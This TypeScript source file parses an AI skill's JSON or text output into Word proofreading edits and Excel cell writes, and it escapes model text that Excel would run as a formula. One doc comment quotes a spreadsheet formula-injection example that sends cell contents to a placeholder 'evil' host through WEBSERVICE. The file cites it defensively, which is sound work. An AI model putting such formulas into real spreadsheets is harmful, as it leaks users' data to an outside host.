// Reading a skill's structured output leniently: the model's JSON is data, so every field is checked before use.
import type { ProofEdit } from "./types";

/** The edits of an "edits" output: `{edits: [...]}` or a bare array; malformed items are dropped. */
export function parseEdits(output: unknown): ProofEdit[] {
  const list = Array.isArray(output) ? output : (output as { edits?: unknown } | null)?.edits;
  if (!Array.isArray(list)) return [];
  const edits: ProofEdit[] = [];
  for (const item of list) {
    const record = item as Record<string, unknown>;
    const original = record?.original ?? record?.find;
    const replacement = record?.replacement ?? record?.replace;
    if (typeof original !== "string" || !original || typeof replacement !== "string") continue;
    edits.push({ original, replacement, reason: typeof record.reason === "string" ? record.reason : "" });
  }
  return edits;
}

/** Split text into paragraphs the way Word counts them (one per line, blank lines ignored). */
export function splitParagraphs(text: string): string[] {
  return text
    .split(/\r\n|\r|\n/)
    .map((line) => line.trimEnd())
    .filter((line) => line.trim() !== "");
}

/** What an Excel answer asks to write: a formula, a 2D table, or plain text. */
export type CellWrite = { kind: "formula"; formula: string; target?: string } | { kind: "values"; values: unknown[][]; target?: string };

/** Turn an Excel skill's output (or its streamed text) into one write. */
export function parseCellWrite(output: unknown, text: string): CellWrite {
  const record = (output && typeof output === "object" && !Array.isArray(output) ? output : {}) as Record<string, unknown>;
  const target = typeof record.target === "string" ? record.target : undefined;
  if (typeof record.formula === "string") return { kind: "formula", formula: normaliseFormula(record.formula), target };
  const table = Array.isArray(output) ? output : (record.values ?? record.table ?? record.rows);
  if (Array.isArray(table) && table.every((row) => Array.isArray(row))) {
    return { kind: "values", values: rectangular(table as unknown[][]).map((row) => row.map(asLiteral)), target };
  }
  const answer = (typeof output === "string" ? output : text).trim();
  const fenced = /^```[a-z]*\s*\n?([\s\S]*?)\n?```$/i.exec(answer);
  const bare = fenced ? fenced[1].trim() : answer;
  if (bare.startsWith("=") && !bare.includes("\n")) return { kind: "formula", formula: bare };
  return { kind: "values", values: [[asLiteral(answer)]] };
}

const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?%?$/i;

/** A cell value as Excel should store it: Range.values runs text starting with =, + or - (and @) as a formula, so
 * such text from a model (`=WEBSERVICE("https://evil/?"&A1)`, or just a "- bullet") gets Excel's text prefix `'`. */
export function asLiteral(value: unknown): unknown {
  if (typeof value !== "string" || !/^[=+\-@]/.test(value) || NUMBER.test(value)) return value;
  return `'${value}`;
}

function normaliseFormula(formula: string): string {
  const trimmed = formula.trim();
  return trimmed.startsWith("=") ? trimmed : `=${trimmed}`;
}

/** Pad ragged rows so Excel accepts the array (it must be a rectangle of the target's size). */
function rectangular(rows: unknown[][]): unknown[][] {
  const width = Math.max(1, ...rows.map((row) => row.length));
  return rows.map((row) => [...row, ...Array(width - row.length).fill("")]);
}
